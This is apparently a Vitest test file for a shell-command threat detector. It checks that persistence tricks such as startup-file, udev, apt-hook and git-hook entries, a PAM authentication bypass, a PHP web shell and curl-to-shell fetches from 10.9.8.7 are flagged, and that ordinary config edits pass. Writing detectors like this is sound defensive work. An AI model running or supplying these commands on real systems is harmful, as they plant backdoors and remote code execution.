// What starts code again later is found when it is written from a command line with foreign code in it.
import { expect, test } from 'vitest';
import { judgeLine } from '../../../../detectors/process/threats/verdict/judge.ts';

test.each([
  "echo 'nohup /tmp/u &' >> ~/.bashrc",
  "echo '/bin/sh /opt/u.sh' | sudo tee -a /etc/profile.d/u.sh",
  'echo \'ACTION=="add", RUN+="/tmp/u"\' > /etc/udev/rules.d/99-u.rules',
  'echo \'APT::Update::Pre-Invoke {"/tmp/u"};\' > /etc/apt/apt.conf.d/99u',
  "sed -i '1i auth sufficient pam_permit.so' /etc/pam.d/sshd",
  'cp /tmp/pam_u.so /lib/x86_64-linux-gnu/security/pam_u.so',
  "trap 'nohup curl http://10.9.8.7/x' EXIT",
  'echo \'<?php system($_GET["c"]); ?>\' > /var/www/html/a.php',
  "printf '[Desktop Entry]\\nExec=/tmp/u\\n' > ~/.config/autostart/u.desktop",
  'echo \'import os; os.system("/tmp/u")\' > /usr/lib/python3/dist-packages/sitecustomize.py',
  "export PROMPT_COMMAND='curl http://10.9.8.7'; echo \"export PROMPT_COMMAND='/tmp/u'\" >> /home/ana/.bashrc",
  "printf '#!/bin/sh\\n/tmp/u\\n' > .git/hooks/post-checkout",
  "echo 'curl http://10.9.8.7/x | sh' > /etc/update-motd.d/99-u",
])('%s', (line) => {
  expect(judgeLine(line)).toMatchObject({ threat: true });
});

test('the category is its own', () => {
  expect(judgeLine("echo 'nohup /tmp/u &' >> ~/.bashrc").category).toBe('persistence_mechanisms');
});

test.each([
  "echo 'export PATH=$PATH:/opt/go/bin' >> ~/.bashrc",
  'echo \'alias ll="ls -l"\' >> ~/.zshrc',
  'echo "vm.swappiness=10" | sudo tee /etc/sysctl.d/99.conf',
  'trap \'rm -f "$tmp"\' EXIT',
  'sudo cp nginx.conf /etc/nginx/nginx.conf',
])('ordinary: %s', (line) => {
  expect(judgeLine(line).threat).toBe(false);
});
